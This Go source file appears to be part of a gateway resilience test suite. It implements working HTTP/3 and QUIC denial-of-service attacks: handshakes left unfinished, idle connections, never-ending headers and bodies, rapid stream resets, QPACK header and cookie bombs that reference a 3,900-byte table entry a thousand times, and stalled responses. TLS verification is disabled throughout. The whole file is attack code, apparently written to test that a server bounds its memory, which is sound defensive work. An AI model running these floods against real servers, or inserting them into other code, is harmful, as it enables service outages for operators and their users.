package floods

import (
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"net"
	"os"
	"strings"
	"time"

	"github.com/quic-go/qpack"
	"github.com/quic-go/quic-go"
	"github.com/quic-go/quic-go/quicvarint"
)

// What a connection of HTTP/3 may hold: a handshake that is not made, a connection that has
// been, and a hundred streams of it, each with headers of 60 KiB, decoded, what is buffered on both
// sides, and what the windows of QUIC let come before anybody looks at it.
const (
	inHandshake   = 160 * kib
	inConnection  = 512 * kib
	inQUICStreams = inConnection + 1024*kib + 100*(40+60+3*32)*kib
)

// HTTP3 are the attacks by HTTP/3. The name of who is attacked is not looked at.
func HTTP3() []Attack {
	return []Attack{
		{"handshakes that nobody ends", true, 50, inHandshake, 1200, deaf},
		{"connections that do nothing", true, 50, inConnection, 0, inQUIC(quic.Config{}, func(c *quicConn) error { return c.ended(time.Second) })},
		{"headers that never end", true, 20, inConnection, 1, onStream(append(frameHead(frameHeaders, 60000), 0, 0), []byte{0x50}, 50*time.Millisecond)},
		{"bodies that never end", true, 20, inConnection, 1, onStream(append(asking("POST", "/x"), frameHead(frameData, 1<<20)...), []byte{'a'}, 50*time.Millisecond)},
		{"bodies that stand still", true, 20, inConnection, 0, onStream(asking("POST", "/x"), nil, time.Second)},
		{"empty DATA", true, 4, inConnection, 2, onStream(asking("POST", "/x"), frameHead(frameData, 0), 0)},
		{"frames that there are not", true, 4, inConnection, 3, onStream(nil, frameHead(frameUnknown, 0), 0)},
		{"such frames on the control stream", true, 4, inConnection, 6, inQUIC(quic.Config{}, func(c *quicConn) error {
			return c.control(append(frameHead(frameUnknown, 0), frame(frameMaxPushID, quicvarint.Append(nil, uint64(c.next())))...))
		})},
		{"PRIORITY_UPDATE", true, 4, inConnection, 10, inQUIC(quic.Config{}, func(c *quicConn) error {
			return c.control(frame(framePriorityUpdate, append(quicvarint.Append(nil, uint64(4*c.next())), "u=1"...)))
		})},
		{"rapid resets", false, 4, inQUICStreams, 40, inQUIC(quic.Config{}, func(c *quicConn) error { return c.request(asking("GET", "/x"), true) })},
		{"header bombs", false, 4, inQUICStreams, kib, inQUIC(quic.Config{}, func(c *quicConn) error { return c.bomb("x-bomb") })},
		{"cookie bombs", false, 4, inQUICStreams, kib, inQUIC(quic.Config{}, func(c *quicConn) error { return c.bomb("cookie") })},
		{"small headers", false, 4, inQUICStreams, 4 * kib, inQUIC(quic.Config{}, func(c *quicConn) error {
			return c.request(frame(frameHeaders, append(fields("GET", "/x"), bytes.Repeat([]byte{0xc0 | 13}, 4000)...)), false) // referer, with nothing in it
		})},
		{"answers that are not taken", true, 10, inQUICStreams, 30, inQUIC(takesNothing, func(c *quicConn) error { return c.stalled("/x") })},
		{"long answers that are not taken", true, 3, inQUICStreams, 30, inQUIC(takesNothing, func(c *quicConn) error { return c.stalled("/long") })},
	}
}

// takesNothing has the other side send a byte of each answer.
var takesNothing = quic.Config{InitialStreamReceiveWindow: 1, MaxStreamReceiveWindow: 1}

// The types of frames of HTTP/3 (RFC 9114, section 7.2; RFC 9218, section 7.2), and of streams.
const (
	frameData           = 0x0
	frameHeaders        = 0x1
	frameSettings       = 0x4
	frameMaxPushID      = 0xd
	frameUnknown        = 0x21 // reserved, and to be ignored
	framePriorityUpdate = 0xf0700
	streamControl       = 0x0
	streamEncoder       = 0x2
)

func frameHead(kind, length uint64) []byte {
	return quicvarint.Append(quicvarint.Append(nil, kind), length)
}

func frame(kind uint64, payload []byte) []byte {
	return append(frameHead(kind, uint64(len(payload))), payload...)
}

// fields are the headers of a request, as QPACK has them without its table.
func fields(method, path string) []byte {
	var b bytes.Buffer
	e := qpack.NewEncoder(&b)
	for _, h := range []Field{{":method", method}, {":scheme", "https"}, {":authority", "api.example.com"}, {":path", path}} {
		_ = e.WriteField(qpack.HeaderField{Name: h[0], Value: h[1]}) // a buffer takes all
	}
	return b.Bytes()
}

// asking has the headers of a request.
func asking(method, path string) []byte { return frame(frameHeaders, fields(method, path)) }

// quicConn is a connection of HTTP/3, spoken frame by frame.
type quicConn struct {
	*quic.Conn
	ctx              context.Context
	controls, tables *quic.SendStream
	numbers          int
	inTable          bool
}

// ourTLS looks at nobody's certificate: who attacks does not care.
func ourTLS() *tls.Config {
	return &tls.Config{ServerName: "api.example.com", InsecureSkipVerify: true, NextProtos: []string{"h3"}}
}

// openQUIC makes a connection, with the control stream that it must have.
func openQUIC(ctx context.Context, addr string, config quic.Config) (*quicConn, error) {
	config.KeepAlivePeriod = 200 * time.Millisecond // else it would be ours that ends it
	config.HandshakeIdleTimeout = Patience
	conn, err := quic.DialAddr(ctx, addr, ourTLS(), &config)
	if err != nil {
		return nil, err
	}
	c := &quicConn{Conn: conn, ctx: ctx}
	context.AfterFunc(ctx, func() { _ = c.CloseWithError(0, "") }) // whatever waits for it then
	if c.controls, err = c.OpenUniStreamSync(ctx); err == nil {
		_, err = c.controls.Write(append([]byte{streamControl}, frame(frameSettings, nil)...))
	}
	if err != nil {
		_ = c.CloseWithError(0, "")
		return nil, err
	}
	return c, nil
}

// inQUIC does something on a connection again and again, until the gateway closes it or
// ends what was asked.
func inQUIC(config quic.Config, again func(c *quicConn) error) func(addr string, pace func()) error {
	return func(addr string, pace func()) error {
		ctx, cancel := context.WithTimeout(context.Background(), Patience)
		defer cancel()
		c, err := openQUIC(ctx, addr, config)
		if err != nil {
			return err
		}
		defer c.CloseWithError(0, "")
		for {
			pace()
			if err := again(c); err != nil {
				return unlessPatienceEnded(ctx)
			}
		}
	}
}

func unlessPatienceEnded(ctx context.Context) error {
	if ctx.Err() != nil {
		return unlessLasting(os.ErrDeadlineExceeded)
	}
	return nil
}

// onStream begins a stream, and writes to it again and again, until the gateway answers it
// or ends it.
func onStream(first, more []byte, pause time.Duration) func(addr string, pace func()) error {
	return func(addr string, pace func()) error {
		ctx, cancel := context.WithTimeout(context.Background(), Patience)
		defer cancel()
		c, err := openQUIC(ctx, addr, quic.Config{})
		if err != nil {
			return err
		}
		defer c.CloseWithError(0, "")
		stream, err := c.OpenStreamSync(ctx)
		if err != nil {
			return unlessPatienceEnded(ctx)
		}
		ended := make(chan struct{})
		go func() {
			defer close(ended)
			_, _ = stream.Read(make([]byte, 1)) // an answer, or the end of the stream or connection
		}()
		if len(first) == 0 {
			first = more // there is no stream before something is written
		}
		for next := first; ; next = more {
			pace()
			if _, err := stream.Write(next); err != nil {
				return unlessPatienceEnded(ctx)
			}
			select {
			case <-ended:
				return unlessPatienceEnded(ctx)
			case <-ctx.Done():
				return unlessPatienceEnded(ctx)
			case <-time.After(pause):
			}
		}
	}
}

// next is the next number, from 1.
func (c *quicConn) next() int {
	c.numbers++
	return c.numbers
}

// control writes to the control stream.
func (c *quicConn) control(frame []byte) error {
	_, err := c.controls.Write(frame)
	return err
}

// ended waits for the end of the connection.
func (c *quicConn) ended(most time.Duration) error {
	select {
	case <-c.Context().Done():
		return context.Cause(c.Context())
	case <-c.ctx.Done():
		return c.ctx.Err()
	case <-time.After(most):
		return nil
	}
}

// request sends a request, and takes it back, or leaves what becomes of it.
func (c *quicConn) request(headers []byte, takeBack bool) error {
	stream, err := c.OpenStreamSync(c.ctx)
	if err != nil {
		return err
	}
	if _, err := stream.Write(headers); err != nil {
		return c.unlessClosed()
	}
	if takeBack {
		stream.CancelWrite(0x10c) // H3_REQUEST_CANCELLED
		stream.CancelRead(0x10c)
		return nil
	}
	go func() {
		buffer := make([]byte, kib)
		for err := error(nil); err == nil; {
			_, err = stream.Read(buffer)
		}
	}()
	_ = stream.Close() // the gateway may have ended it already
	return nil
}

// unlessClosed is an error where the connection has ended, and not only a stream.
func (c *quicConn) unlessClosed() error { return context.Cause(c.Context()) }

// bomb sends a request with a thousand references to one long header, a byte each.
func (c *quicConn) bomb(name string) error {
	if !c.inTable {
		c.inTable = true
		if err := c.fillTable(name, strings.Repeat("a", 3900)); err != nil {
			return err
		}
	}
	// The prefix says that one entry of the table must be there, and that it is counted
	// from it (RFC 9204, section 4.5.1): one is written as 2.
	block := append([]byte{2, 0}, fields("GET", "/x")[2:]...)
	return c.request(frame(frameHeaders, append(block, bytes.Repeat([]byte{0x80}, 1000)...)), false)
}

// fillTable puts a header in the table (RFC 9204, section 4.3).
func (c *quicConn) fillTable(name, value string) error {
	var err error
	if c.tables, err = c.OpenUniStreamSync(c.ctx); err != nil {
		return err
	}
	instructions := []byte{streamEncoder}
	instructions = append(instructions, prefixed(0x20, 5, 4096)...)      // the capacity of the table
	instructions = append(instructions, prefixed(0x40, 5, len(name))...) // a name, not compressed
	instructions = append(instructions, name...)
	instructions = append(instructions, prefixed(0, 7, len(value))...)
	_, err = c.tables.Write(append(instructions, value...))
	return err
}

// prefixed is an integer behind so many bits (RFC 7541, section 5.1).
func prefixed(first byte, bits uint, n int) []byte {
	most := 1<<bits - 1
	if n < most {
		return []byte{first | byte(n)}
	}
	out := []byte{first | byte(most)}
	for n -= most; n >= 0x80; n >>= 7 {
		out = append(out, byte(n)|0x80)
	}
	return append(out, byte(n))
}

// stalled asks a hundred times, and waits until the gateway has ended each, or the
// connection.
func (c *quicConn) stalled(path string) error {
	var streams []*quic.Stream
	for range 100 {
		stream, err := c.OpenStreamSync(c.ctx)
		if err != nil {
			return err
		}
		if _, err := stream.Write(asking("GET", path)); err != nil {
			return c.unlessClosed()
		}
		_ = stream.Close() // the gateway may have ended it already
		streams = append(streams, stream)
	}
	for _, stream := range streams {
		if err := stream.SetReadDeadline(time.Now().Add(Patience)); err != nil {
			return err
		}
		// More than the window lets come: there is no such thing before the stream's end.
		if _, err := stream.Peek(make([]byte, 2)); errors.Is(err, os.ErrDeadlineExceeded) {
			return err
		}
	}
	return errors.New("all of them have ended")
}

// deaf begins handshakes, and hears nothing of what is answered.
func deaf(addr string, pace func()) error {
	conn, err := net.ListenUDP("udp", nil)
	if err != nil {
		return err
	}
	defer conn.Close()
	to, err := net.ResolveUDPAddr("udp", addr)
	if err != nil {
		return err
	}
	pace()
	ctx, cancel := context.WithTimeout(context.Background(), 500*time.Millisecond)
	defer cancel()
	transport := &quic.Transport{Conn: deafConn{conn}}
	defer transport.Close()
	if _, err := transport.Dial(ctx, to, ourTLS(), &quic.Config{}); err == nil {
		return errors.New("a handshake is made of which nothing was heard")
	}
	return nil
}

// deafConn takes what comes, and tells nobody.
type deafConn struct{ net.PacketConn }

// SetReadBuffer and SetWriteBuffer are there since quic-go would complain of their absence.
func (c deafConn) SetReadBuffer(int) error  { return nil }
func (c deafConn) SetWriteBuffer(int) error { return nil }

func (c deafConn) ReadFrom(p []byte) (int, net.Addr, error) {
	for {
		if _, _, err := c.PacketConn.ReadFrom(p); err != nil {
			return 0, nil, err
		}
	}
}
